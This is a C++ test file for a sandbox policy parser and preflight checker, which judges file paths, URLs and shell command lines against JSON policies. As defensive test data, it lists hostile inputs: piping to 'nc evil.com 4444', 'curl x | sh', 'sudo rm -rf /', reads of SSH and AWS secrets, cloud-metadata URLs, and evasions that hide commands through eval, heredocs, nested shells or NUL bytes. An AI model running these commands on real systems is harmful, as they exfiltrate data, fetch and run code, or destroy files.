// sandbox/policy.h and sandbox/preflight.h: policies read from JSON, and the preflight answers for
// paths (real files and links in a temporary tree), URLs and command lines.
#include <catch2/catch.hpp>

#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <filesystem>

#include "helpers.h"
#include "sandbox/policy.h"
#include "sandbox/preflight.h"

namespace fs = std::filesystem;
using sandbox::Access;
using sandbox::check_command;
using sandbox::check_path;
using sandbox::check_url;
using sandbox::parse_policy;
using sandbox::Policy;

namespace {

Policy must(sandbox::Result<Policy> r) {
  INFO((r ? std::string() : r.error()));
  REQUIRE(r.ok());
  return std::move(*r);
}

std::string error_of(std::string_view json) {
  auto r = parse_policy(json);
  return r ? "(no error)" : r.error();
}

// HOME pointed at a directory of the test's own for its lifetime: secrets are found relative to it.
class FakeHome {
 public:
  explicit FakeHome(const fs::path& home) {
    if (const char* h = std::getenv("HOME")) old_ = h, had_ = true;
    ::setenv("HOME", home.c_str(), 1);
  }
  ~FakeHome() { had_ ? (void)::setenv("HOME", old_.c_str(), 1) : (void)::unsetenv("HOME"); }

 private:
  std::string old_;
  bool had_ = false;
};

}  // namespace

TEST_CASE("policy: parse errors name the field's JSON path", "[sandbox][policy]") {
  struct Case {
    const char* json;
    const char* error;  // the start of the message
  } cases[] = {
      {R"({"filesystem": {"mode": "open"}})", "filesystem.mode: expected strict, workspace or permissive, got 'open'"},
      {R"({"network": {"enabeld": true}})", "network.enabeld: unknown field (known: enabled, allowed_domains"},
      {R"({"colour": 1})", "colour: unknown field"},
      {R"({"limits": {"memory": "12X"}})", "limits.memory: expected a number of bytes or a string such as"},
      {R"({"limits": {"memory": "1M"}})", "limits.memory: 1M is out of range [16M, 1T]"},
      {R"({"limits": {"cpu_time": 1.5}})", "limits.cpu_time: expected a number of seconds or a string such as \"500ms\", \"30s\", \"5m\", got a fractional number"},
      {R"({"limits": {"wall_time": "2d"}})", "limits.wall_time: expected a number of seconds"},
      {R"({"limits": {"processes": -1}})", "limits.processes: expected a whole number, got a negative number"},
      {R"({"limits": {"open_files": 4}})", "limits.open_files: 4 is out of range [16, 1048576]"},
      {R"({"limits": {"memory": "99999999999999999999T"}})", "limits.memory: expected a number of bytes"},
      {R"({"commands": {"allowed_commands": ["git", 3]}})", "commands.allowed_commands[1]: expected a string, got a number"},
      {R"({"commands": {"allowed_commands": "git"}})", "commands.allowed_commands: expected an array of strings, got a string"},
      {R"({"commands": {"blocked_commands": ["bin/rm"]}})", "commands.blocked_commands[0]: 'bin/rm': a command is a name (git) or an absolute path"},
      {R"({"filesystem": {"allowed_paths": ["relative/x"]}})", "filesystem.allowed_paths[0]: 'relative/x' is not absolute"},
      {R"({"filesystem": {"blocked_paths": ["~bob/x"]}})", "filesystem.blocked_paths[0]: '~bob/x': only ~ and ~/... are expanded"},
      {R"({"filesystem": {"allow_symlinks": "yes"}})", "filesystem.allow_symlinks: expected true or false, got a string"},
      {R"({"network": {"allowed_domains": ["exa mple.com"]}})", "network.allowed_domains[0]: 'exa mple.com': ' ' cannot be in a host name"},
      {R"({"network": {"allowed_domains": ["example.com:70000"]}})", "network.allowed_domains[0]: 'example.com:70000': the port must be 1-65535"},
      {R"({"network": {"blocked_domains": ["a.*.com"]}})", "network.blocked_domains[0]: 'a.*.com': * only as the first label"},
      {R"({"network": []})", "network: expected an object, got an array"},
      {R"({"version": 2})", "version: 2 is not supported (this indexer reads version 1)"},
      {R"({"extends": "lax"})", "extends: no preset 'lax' (strict, workspace or permissive)"},
      {R"({"isolation": "maybe"})", "isolation: expected required or best_effort, got 'maybe'"},
      {R"({"name": "a", "name": "b"})", "name: duplicate field"},
      {R"({"network": {"enabled": true, "enabled": false}})", "network.enabled: duplicate field"},
      {R"({"filesystem": {"mode": "strict",}})", "not JSON: parse error at line 1, column "},
      {R"({"name": "x"} // comment)", "not JSON"},
      {"[]", "(top): expected an object, got an array"},
      {"", "not JSON"},
  };
  for (const auto& c : cases) {
    INFO(c.json);
    std::string e = error_of(c.json);
    CHECK(e.substr(0, std::strlen(c.error)) == c.error);
  }
}

TEST_CASE("policy: limits take numbers or units, extends fills what is left out, a tilde is the user's home", "[sandbox][policy]") {
  Policy p = must(parse_policy(R"({
    "name": "ci", "extends": "strict",
    "filesystem": {"allowed_paths": ["~/data/", "/opt/x/../y"]},
    "limits": {"memory": "512M", "cpu_time": "1500ms", "wall_time": 90, "output": "64KiB", "file_size": 4096, "tmp": "1g"}
  })"));
  CHECK(p.name == "ci");
  CHECK(p.filesystem.mode == sandbox::FsMode::Strict);  // from strict
  CHECK(p.commands.mode == sandbox::CommandMode::Whitelist);
  CHECK(p.commands.allowed_commands == must(sandbox::preset("strict")).commands.allowed_commands);
  CHECK(p.filesystem.allowed_paths == std::vector<std::string>{sandbox::home_directory() + "/data", "/opt/y"});
  CHECK(p.limits.memory_bytes == 512ull << 20);
  CHECK(p.limits.cpu_ms == 1500);
  CHECK(p.limits.wall_ms == 90'000);
  CHECK(p.limits.output_bytes == 64 << 10);
  CHECK(p.limits.file_size_bytes == 4096);
  CHECK(p.limits.tmp_bytes == 1ull << 30);
  CHECK(p.limits.processes == 64);  // strict's

  Policy d = must(parse_policy("{}"));  // workspace, named "custom"
  Policy w = must(sandbox::preset("workspace"));
  w.name = "custom";
  CHECK(d == w);
}

TEST_CASE("policy: to_json and parse_policy round trip, presets included", "[sandbox][policy]") {
  std::vector<Policy> policies;
  for (const char* name : {"strict", "workspace", "permissive"}) policies.push_back(must(sandbox::preset(name)));
  Policy odd = must(parse_policy(R"({"name": "odd", "isolation": "best_effort",
    "network": {"enabled": true, "allowed_domains": ["*.Example.com", "[::1]:8080", "api.x.com:*"], "blocked_domains": ["bad.example.com"]},
    "commands": {"mode": "whitelist", "allowed_commands": ["/usr/bin/make", "git"], "allow_sudo": true},
    "filesystem": {"read_only_paths": ["/srv/ro"], "writable_paths": ["/srv/rw"], "blocked_paths": ["/srv/rw/secret"]},
    "limits": {"cpu_time": "1001ms", "memory": 16777217, "processes": 3}})"));
  CHECK(odd.network.allowed_domains[0] == "*.example.com");  // lower-cased
  policies.push_back(odd);
  for (const auto& p : policies) {
    std::string text = sandbox::to_json(p);
    INFO(text);
    CHECK(must(parse_policy(text)) == p);
  }
  CHECK(sandbox::to_json(policies[0]).find(R"("memory": "512M")") != std::string::npos);
  CHECK(sandbox::to_json(odd).find(R"("cpu_time": "1001ms")") != std::string::npos);
}

TEST_CASE("policy: load_policy takes a preset's name or a file, whose stem names it by default", "[sandbox][policy]") {
  test::TempDir t;
  CHECK(must(sandbox::load_policy("permissive")).commands.mode == sandbox::CommandMode::Unrestricted);
  t.write("agent.json", R"({"extends": "strict"})");
  CHECK(must(sandbox::load_policy((t / "agent.json").string())).name == "agent");
  t.write("bad.json", R"({"limits": {"processes": "many"}})");
  auto bad = sandbox::load_policy((t / "bad.json").string());
  REQUIRE(!bad);
  CHECK(bad.error() == (t / "bad.json").string() + ": limits.processes: expected a whole number, got a string");
  auto missing = sandbox::load_policy((t / "none.json").string());
  REQUIRE(!missing);
  CHECK(missing.error().find("No such file or directory") != std::string::npos);
  t.write("huge.json", std::string(2 << 20, ' '));
  auto huge = sandbox::load_policy((t / "huge.json").string());
  REQUIRE(!huge);
  CHECK(huge.error().find("at most 1048576 bytes") != std::string::npos);
}

TEST_CASE("policy: load_policy reads only a regular file: a FIFO, a directory or a device is refused at once", "[sandbox][policy]") {
  test::TempDir t;
  // A FIFO nobody writes to: a plain open would wait for a writer forever.
  const std::string fifo = (t / "policy.fifo").string();
  REQUIRE(::mkfifo(fifo.c_str(), 0600) == 0);
  auto from_fifo = sandbox::load_policy(fifo);
  REQUIRE(!from_fifo);
  CHECK(from_fifo.error() == fifo + ": a FIFO, not a policy file (a policy is a regular file)");
  fs::create_directories(t / "dir.json");
  auto from_dir = sandbox::load_policy((t / "dir.json").string());
  REQUIRE(!from_dir);
  CHECK(from_dir.error() == (t / "dir.json").string() + ": a directory, not a policy file (a policy is a regular file)");
  // /dev/zero never ends: read whole, it would fill memory; it is refused before any read.
  auto from_zero = sandbox::load_policy("/dev/zero");
  REQUIRE(!from_zero);
  CHECK(from_zero.error() == "/dev/zero: a device, not a policy file (a policy is a regular file)");
  // A file over the cap is refused by its size, naming it; one at the cap is read (and parsed).
  t.write("big.json", std::string((1 << 20) + 1, ' '));
  auto big = sandbox::load_policy((t / "big.json").string());
  REQUIRE(!big);
  CHECK(big.error() == (t / "big.json").string() + ": a policy is at most 1048576 bytes, this file has 1048577");
  std::string at_cap = R"({"name": "padded"})";
  at_cap.resize(1 << 20, ' ');
  t.write("cap.json", at_cap);
  CHECK(must(sandbox::load_policy((t / "cap.json").string())).name == "padded");
  // A symbolic link to a regular file is followed (the file is what is judged); to the FIFO it is refused.
  fs::create_symlink(t / "cap.json", t / "link.json");
  CHECK(must(sandbox::load_policy((t / "link.json").string())).name == "padded");
  fs::create_symlink(fifo, t / "fifo-link.json");
  CHECK(!sandbox::load_policy((t / "fifo-link.json").string()));
}

TEST_CASE("preflight: paths are judged where they lead", "[sandbox][policy]") {
  test::TempDir t;
  fs::create_directories(t / "home");
  FakeHome home(t / "home");
  t.write("ws/src/main.c", "int main() {}\n");
  t.write("ws/.git/config", "[core]\n");
  t.write("outside.txt", "not yours\n");
  t.write("outside_dir/x", "x\n");
  t.write("home/.ssh/id_ed25519", "KEY\n");
  fs::create_symlink(t / "outside.txt", t / "ws/link_out");
  fs::create_symlink("src/main.c", t / "ws/link_in");
  fs::create_symlink(t / "outside_dir", t / "ws/src/dir_out");
  fs::create_symlink(t / "home/.ssh/id_ed25519", t / "ws/key");
  fs::create_symlink("/etc/passwd", t / "ws/passwd");
  fs::create_hard_link(t / "outside.txt", t / "ws/hard");
  const std::string ws = (t / "ws").string();
  const Policy workspace = must(sandbox::preset("workspace")), strict = must(sandbox::preset("strict")),
               permissive = must(sandbox::preset("permissive"));

  struct Case {
    const Policy& policy;
    std::string path;
    Access access;
    bool allowed;
    std::string reason;  // a part of it
  } cases[] = {
      {workspace, "src/main.c", Access::Read, true, "readable: the workspace"},
      {workspace, "src/main.c", Access::Write, true, "writable: the workspace"},
      {workspace, "src/new/file.c", Access::Write, true, "writable: the workspace"},  // absent is fine
      {strict, "src/main.c", Access::Read, true, "readable: the workspace"},
      {strict, "src/main.c", Access::Write, false, "the workspace is read-only (filesystem.mode strict)"},
      {workspace, "../outside.txt", Access::Read, false, "is outside the workspace and the allowed paths"},
      {workspace, "src/../../outside.txt", Access::Read, false, "is outside the workspace"},
      {workspace, "/etc/passwd", Access::Read, true, "readable: a system path"},
      {workspace, "/usr/bin/env", Access::Write, false, "which is read-only"},
      {workspace, "/etc/shadow", Access::Read, false, "outside the workspace"},
      {permissive, "/etc/hostname", Access::Read, true, "the host (permissive mode shows it read-only)"},
      {permissive, "/etc/hostname", Access::Write, false, "read-only"},
      // Paths are the host's: its /tmp is not the run's private one.
      {workspace, "/tmp/scratch", Access::Write, false, "outside the workspace"},
      // secrets, present or not, under any policy
      {permissive, "~/.ssh/id_ed25519", Access::Read, false, "~/.ssh holds secrets"},
      {permissive, "~/.aws/credentials", Access::Read, false, "~/.aws holds secrets (refused for reading and writing, even when absent)"},
      {permissive, "~/.docker/config.json", Access::Read, false, "~/.docker/config.json holds secrets"},
      {permissive, "~/.docker/run", Access::Read, true, "permissive"},
      {workspace, ".env", Access::Read, false, ".env files hold secrets"},
      {workspace, "config/.env.production", Access::Write, false, ".env.production files hold secrets"},
      {workspace, ".env.example", Access::Read, true, "the workspace"},
      // metadata that runs code later: readable, never writable
      {workspace, ".git/config", Access::Read, true, "the workspace"},
      {workspace, ".git/config", Access::Write, false, ".git/config runs code later (write-protected, even in the workspace)"},
      {workspace, ".git/hooks/pre-commit", Access::Write, false, ".git/hooks runs code later"},
      {workspace, ".git/objects/ab/cdef", Access::Write, true, "the workspace"},
      {workspace, "vendor/lib/.git/hooks/post-checkout", Access::Write, false, ".git/hooks runs code later"},
      {workspace, ".gitmodules", Access::Write, false, ".gitmodules runs code later"},
      {workspace, ".vscode/tasks.json", Access::Write, false, ".vscode runs code later"},
      {workspace, ".github/workflows/ci.yml", Access::Write, false, ".github/workflows runs code later"},
      {workspace, ".github/CODEOWNERS", Access::Write, true, "the workspace"},
      {workspace, ".bashrc", Access::Write, false, ".bashrc runs code later"},
      {workspace, ".envrc", Access::Write, false, ".envrc runs code later"},
      // hidden files per policy
      {strict, ".cache/x", Access::Read, false, ".cache is hidden (filesystem.allow_hidden_files is off)"},
      {workspace, ".cache/x", Access::Read, true, "the workspace"},
      // links
      {workspace, "link_in", Access::Read, true, "through a symbolic link to"},
      {workspace, "link_out", Access::Read, false, "a symbolic link leads to " + (t / "outside.txt").string() + ": "},
      {workspace, "src/dir_out/x", Access::Read, false, "a symbolic link leads to"},
      {permissive, "key", Access::Read, false, "holds secrets"},
      {workspace, "passwd", Access::Read, false, "a symbolic link leads out of the workspace to /etc/passwd (filesystem.allow_symlinks is off)"},
      {permissive, "passwd", Access::Read, true, "through a symbolic link to /etc/passwd"},
      // A hard link is another name of the same file: a preflight cannot see where the others
      // are, so reading is allowed (the kernel's mount namespace is the guard); writing is not.
      {workspace, "hard", Access::Read, true, "the workspace"},
      {workspace, "hard", Access::Write, false, "has other hard links"},
      {workspace, "", Access::Read, false, "an empty path"},
      {workspace, std::string("a\0b", 3), Access::Read, false, "NUL"},
  };
  for (const auto& c : cases) {
    auto d = check_path(c.policy, ws, c.path, c.access);
    INFO(c.policy.name << " " << c.path << (c.access == Access::Write ? " (write)" : " (read)") << " -> " << d.reason);
    CHECK(d.allowed == c.allowed);
    CHECK(d.reason.find(c.reason) != std::string::npos);
  }

  Policy lists = must(parse_policy(R"({"filesystem": {"allowed_paths": [")" + (t / "outside_dir").string() +
                                   R"("], "writable_paths": [")" + (t / "home/out").string() + R"("],
      "blocked_paths": [")" + ws + R"(/private"], "read_only_paths": [")" + ws + R"(/docs"]}})"));
  CHECK(check_path(lists, ws, (t / "outside_dir/x").string(), Access::Read).allowed);
  CHECK(check_path(lists, ws, (t / "outside_dir/x").string(), Access::Write).reason.find("filesystem.allowed_paths") != std::string::npos);
  CHECK(check_path(lists, ws, "~/out/result.txt", Access::Write).allowed);
  CHECK(check_path(lists, ws, "private/notes", Access::Read).reason == "under filesystem.blocked_paths " + ws + "/private");
  CHECK(!check_path(lists, ws, "docs/a.md", Access::Write).allowed);
  CHECK(check_path(lists, ws, "docs/a.md", Access::Read).allowed);
  // A link inside the workspace into an allowed path leaves its area: only with allow_symlinks.
  CHECK(!check_path(lists, ws, "src/dir_out/x", Access::Read).allowed);
  lists.filesystem.allow_symlinks = true;
  CHECK(check_path(lists, ws, "src/dir_out/x", Access::Read).allowed);
}

TEST_CASE("preflight: URLs and hosts", "[sandbox][policy]") {
  Policy p = must(parse_policy(R"({"network": {"enabled": true,
    "allowed_domains": ["example.com", "*.npmjs.org", "api.x.com:8443", "93.184.215.14"],
    "blocked_domains": ["bad.npmjs.org"]}})"));
  Policy local = p;
  local.network.allow_localhost = true;
  struct Case {
    const Policy& policy;
    const char* url;
    bool allowed;
    const char* reason;
  } cases[] = {
      {p, "https://example.com/x?y", true, "example.com:443 is allowed by network.allowed_domains 'example.com'"},
      {p, "HTTPS://EXAMPLE.COM./", true, "allowed"},
      {p, "http://example.com/", false, "plain http is off (network.allow_http is false)"},
      {p, "https://example.com:8443/", false, "example.com:8443 is not in network.allowed_domains (an entry without a port allows 443 only)"},
      {p, "https://registry.npmjs.org/react", true, "'*.npmjs.org'"},
      {p, "https://npmjs.org/", false, "not in network.allowed_domains"},
      {p, "https://bad.npmjs.org/", false, "is blocked by network.blocked_domains 'bad.npmjs.org'"},
      {p, "https://api.x.com:8443/v1", true, "'api.x.com:8443'"},
      {p, "https://example.com@evil.com/", false, "evil.com:443 is not in network.allowed_domains"},
      {p, "https://93.184.215.14/", true, "allowed"},
      {p, "https://169.254.169.254/latest/meta-data", false, "169.254.169.254 is in 169.254.0.0/16 (link-local, cloud metadata)"},
      {p, "https://10.1.2.3/", false, "10.1.2.3 is in 10.0.0.0/8 (private): refused whatever the lists say"},
      {p, "https://[fd00::1]/", false, "fc00::/7 (unique local)"},
      {p, "https://[::ffff:169.254.169.254]/", false, "link-local"},
      {p, "https://127.0.0.1/", false, "127.0.0.1 is loopback (network.allow_localhost is off)"},
      {p, "https://2130706433/", false, "127.0.0.1 is loopback"},  // what the resolver makes of it
      {p, "https://0x7f.1/", false, "127.0.0.1 is loopback"},
      {p, "https://[::1]:8080/", false, "loopback"},
      {p, "https://localhost/", false, "loopback"},
      {local, "https://localhost:3000/", true, "localhost is loopback (network.allow_localhost)"},
      {local, "https://127.0.0.1/", true, "loopback"},
      {p, "ftp://example.com/", false, "scheme 'ftp': only http and https"},
      {p, "example.com", false, "not a URL"},
      {p, "https://exa mple.com/", false, "spaces or control characters"},
      {p, "https://%65xample.com/", false, "percent-encoded"},
      {p, "https://example.com:0/", false, "the port must be a number from 1 to 65535"},
      {p, "https:///path", false, "a URL without a host"},
  };
  for (const auto& c : cases) {
    auto d = check_url(c.policy, c.url);
    INFO(c.url << " -> " << d.reason);
    CHECK(d.allowed == c.allowed);
    CHECK(d.reason.find(c.reason) != std::string::npos);
  }
  CHECK(check_url(must(sandbox::preset("workspace")), "https://example.com/").reason == "the network is off (network.enabled is false)");
  CHECK(sandbox::check_host(p, "Example.com", 443, true).allowed);
  CHECK(!sandbox::check_host(p, "example.com", 80, false).allowed);
  CHECK(sandbox::is_public_address("8.8.8.8"));
  CHECK(sandbox::is_public_address("2606:4700::1111"));
  CHECK(!sandbox::is_public_address("172.16.0.1"));
  CHECK(!sandbox::is_public_address("100.64.0.1"));
  CHECK(!sandbox::is_public_address("[fe80::1]"));
  CHECK(!sandbox::is_public_address("example.com"));
}

TEST_CASE("preflight: command lines are judged by every command they run", "[sandbox][policy]") {
  Policy white = must(parse_policy(R"({"commands": {"mode": "whitelist", "allowed_commands": ["git", "ls", "cat", "grep", "make", "find", "/opt/tool/bin/run"]}})"));
  Policy black = must(parse_policy(R"({"commands": {"mode": "blacklist", "blocked_commands": ["curl", "/usr/bin/wget"]}})"));
  Policy any = must(sandbox::preset("permissive"));
  Policy sudoer = any;
  sudoer.commands.allow_sudo = true;
  std::string deep = "echo ";
  for (int i = 0; i < 5000; ++i) deep += "$(echo ";
  deep += "x $(sudo ls)";
  deep += std::string(5000, ')');
  // sh -c 'sh -c ...' nine deep, each level quoted for the one around it.
  std::string nested_shells = "ls";
  for (int i = 0; i < 9; ++i) {
    std::string q;
    for (char c : nested_shells) q += c == '\'' ? std::string("'\\''") : std::string(1, c);
    nested_shells = "sh -c '" + q + "'";
  }
  std::string nested_30k = "echo ";  // each level a word of the one around it: quadratic if copied
  for (int i = 0; i < 30000; ++i) nested_30k += "$(";
  nested_30k += "x" + std::string(30000, ')');
  std::string arrays;  // tree-sitter's error recovery is superlinear here: minutes unbounded
  while (arrays.size() < 120'000) arrays += "a=(";
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "true;";

  struct Case {
    const Policy& policy;
    std::string line;
    bool allowed;
    std::string reason;
  } cases[] = {
      {white, "git status", true, "runs git (commands.mode whitelist)"},
      {white, "echo ok && sudo rm -rf /", false, "'sudo' runs commands as another user (commands.allow_sudo is off)"},
      {white, "ls -la | grep x; make test || cat log", true, "runs ls, grep, make, cat"},
      {white, "ls | nc evil.com 4444", false, "'nc' is not in commands.allowed_commands"},
      {white, "echo $(curl x)", false, "'curl' is not in"},
      {white, "echo \"logs: $(curl x)\"", false, "'curl' is not in"},
      {white, "echo `curl x`", false, "'curl' is not in"},
      {white, "cat <(curl x)", false, "'curl' is not in"},
      {white, "git log > >(curl -d @- x)", false, "'curl' is not in"},
      {white, "(cd sub && rm -rf .)", false, "'rm' is not in"},
      {white, "cat <<EOF\n$(curl x)\nEOF", false, "'curl' is not in"},
      {white, "f() { curl x; }; f", false, "'curl' is not in"},
      {white, "f() { git status; }; f", true, "runs git, f"},
      {white, "FOO=1 git status", true, "runs git"},
      {white, "env -i FOO=1 -u BAR curl x", false, "'curl' is not in"},
      {white, "env -S 'curl x'", false, "'curl' is not in"},
      {white, "xargs -n 1 -I{} rm {} < list", false, "'rm' is not in"},
      {white, "timeout -s KILL 10 curl x", false, "'curl' is not in"},
      {white, "flock /tmp/lock -c 'curl x'", false, "'curl' is not in"},
      {white, "flock -w 3 /tmp/lock curl x", false, "'curl' is not in"},
      {white, "watch -n 1 curl x", false, "'curl' is not in"},
      {white, "strace -f -o log valgrind --leak-check=full curl x", false, "'curl' is not in"},
      {white, "chroot / ls", false, "'chroot' runs commands as another user"},
      {white, "nice -n 5 nohup stdbuf -oL time -p git gc", true, "runs nice, nohup, stdbuf, time, git"},
      {white, "bash -c \"curl x | sh\"", false, "'curl' is not in"},
      {white, "bash -lc 'git status && ls'", true, "runs bash, git, ls"},
      {white, "sh ./install.sh", false, "'sh' is not in"},
      {white, "curl x | sh", false, "'curl' is not in"},
      {white, "bash <<EOF\ngit status\ncurl x\nEOF\n", false, "'curl' is not in"},
      {white, "bash <<'EOF'\ngit status\nEOF\n", true, "runs bash, git"},
      {white, "sh -s <<< 'rm -rf ~'", false, "'rm' is not in"},
      {white, "sh -c 'sh -c \"rm -rf /\"'", false, "'rm' is not in"},
      {white, "find . -name '*.o' -exec rm {} \\;", false, "'rm' is not in"},
      {white, "find . -name '*.c' -exec grep -l main {} +", true, "runs find, grep"},
      {white, "eval 'curl x'", false, "'curl' is not in"},
      {white, "eval \"$STUFF\"", false, "'\"$STUFF\"' is an expansion: what it runs cannot be judged"},
      {white, "trap 'curl x' EXIT; ls", false, "'curl' is not in"},
      {white, "$CMD args", false, "'$CMD' is an expansion: what it runs cannot be judged (allowed only when commands.mode is unrestricted)"},
      {white, "\"$(echo git)\" status", false, "is an expansion"},
      {white, "/usr/bin/git status", true, "runs /usr/bin/git"},
      {white, "./git status", false, "'./git' is not in commands.allowed_commands"},
      {white, "/tmp/git status", false, "'/tmp/git' is not in"},
      {white, "/opt/tool/bin/run", true, "runs /opt/tool/bin/run"},
      {white, "\\sudo ls", false, "'sudo' runs commands as another user"},
      {white, "s\"u\"'do' ls", false, "'sudo' runs commands as another user"},
      {white, "/usr/bin/sudo -u root ls", false, "'/usr/bin/sudo' runs commands"},
      {white, "command -p exec doas ls", false, "'doas' runs commands"},
      {white, "su -c 'ls' root", false, "'su' runs commands"},
      {white, "l? -la", false, "'l?' is an expansion"},
      {white, "", true, "runs nothing"},
      {white, "# just a comment", true, "runs nothing"},
      {black, "curl https://x", false, "'curl' is in commands.blocked_commands"},
      {black, "/usr/local/bin/curl https://x", false, "'/usr/local/bin/curl' is in commands.blocked_commands"},
      {black, "/usr/bin/wget x", false, "is in commands.blocked_commands"},
      {black, "ls -la && npm test", true, "runs ls, npm (commands.mode blacklist)"},
      {black, "sudo ls", false, "'sudo' runs commands"},
      {black, "$EDITOR file", false, "is an expansion"},
      {any, "$EDITOR file", true, "commands.mode unrestricted"},
      {any, "sudo ls", false, "'sudo' runs commands as another user"},
      {sudoer, "sudo -u builder make install", true, "runs sudo, make"},
      {sudoer, "su --command='ls; rm -rf /' root", true, "runs su, ls, rm"},
      // hostile input: refused with a reason, or judged correctly, in bounded time
      {black, deep, false, "'sudo' runs commands"},
      {white, std::string(1 << 20, ';'), false, "cannot be judged: the command line is 1048576 bytes; at most 131072 are judged"},
      {black, many, true, "runs true, true"},
      {black, std::string("ls\0; sudo x", 11), false, "cannot be judged: a NUL byte at offset 2"},
      {black, "echo \xff\xfe", false, "cannot be judged: invalid UTF-8 at byte 5"},
      {black, "echo 'oops", false, "cannot be judged: not valid bash"},
      {black, "echo \"$(ls", false, "cannot be judged: not valid bash"},
      {black, "if true; then ls", false, "cannot be judged: not valid bash"},
      {white, nested_30k, false, "is an expansion"},
      {black, arrays, false, "cannot be judged: "},
      {black, nested_shells, false, "cannot be judged: shells nested deeper than 8 levels"},
  };
  for (const auto& c : cases) {
    auto d = check_command(c.policy, c.line);
    INFO((c.line.size() < 200 ? c.line : c.line.substr(0, 200) + "...") << " -> " << d.reason);
    CHECK(d.allowed == c.allowed);
    CHECK(d.reason.find(c.reason) != std::string::npos);
  }
  CHECK(sandbox::commands_of("bash -c \"curl x | sh\"") == std::vector<std::string>{"bash", "curl", "sh"});
  CHECK(sandbox::commands_of("echo ok && sudo rm -rf /") == std::vector<std::string>{"echo", "sudo", "rm"});
  CHECK(sandbox::commands_of("echo 'oops").empty());
}

TEST_CASE("cli: indexer policy check, show and explain", "[sandbox][policy][cli]") {
  test::TempDir t;
  t.write("ci.json", R"({"name": "ci", "extends": "strict", "limits": {"memory": "1G"}})");
  t.write("bad.json", R"({"filesystem": {"mode": "open"}})");
  t.write("ws/src/a.c", "");

  auto ok = test::run_indexer({"policy", "check", (t / "ci.json").string()});
  CHECK(ok.exit_code == 0);
  CHECK(ok.out == "ok: ci\n");
  auto bad = test::run_indexer({"policy", "check", (t / "bad.json").string()});
  CHECK(bad.exit_code == 1);
  CHECK(bad.out == "error: " + (t / "bad.json").string() + ": filesystem.mode: expected strict, workspace or permissive, got 'open'\n");

  auto show = test::run_indexer({"policy", "show", (t / "ci.json").string()});
  CHECK(show.exit_code == 0);
  CHECK(must(parse_policy(show.out)) == must(sandbox::load_policy((t / "ci.json").string())));

  auto sudo = test::run_indexer({"policy", "explain", "--command", "echo ok && sudo rm -rf /"});
  CHECK(sudo.exit_code == 1);
  CHECK(sudo.out == "refused: 'sudo' runs commands as another user (commands.allow_sudo is off)\n");
  auto git = test::run_indexer({"policy", "explain", "--policy", (t / "ci.json").string(), "--command", "git status"});
  CHECK(git.exit_code == 0);
  CHECK(git.out == "allowed: runs git (commands.mode whitelist)\n");
  auto write = test::run_indexer({"policy", "explain", "--policy", "strict", "--workspace", (t / "ws").string(), "--path", "src/a.c", "--write"});
  CHECK(write.exit_code == 1);
  CHECK(write.out == "refused: the workspace is read-only (filesystem.mode strict)\n");
  auto read = test::run_indexer({"policy", "explain", "--path", "src/a.c"}, t / "ws");  // the workspace: the current directory
  CHECK(read.exit_code == 0);
  CHECK(read.out == "allowed: readable: the workspace\n");
  auto url = test::run_indexer({"policy", "explain", "--policy", "permissive", "--url", "https://169.254.169.254/"});
  CHECK(url.exit_code == 1);
  CHECK(url.out.starts_with("refused: 169.254.169.254 is in 169.254.0.0/16 (link-local"));

  CHECK(test::run_indexer({"policy", "explain"}).exit_code == 2);
  CHECK(test::run_indexer({"policy", "frobnicate"}).err.find("unknown subcommand 'frobnicate'") != std::string::npos);
  auto nopolicy = test::run_indexer({"policy", "explain", "--policy", (t / "none.json").string(), "--url", "https://x"});
  CHECK(nopolicy.exit_code == 2);
  CHECK(nopolicy.err.find("none.json") != std::string::npos);
}
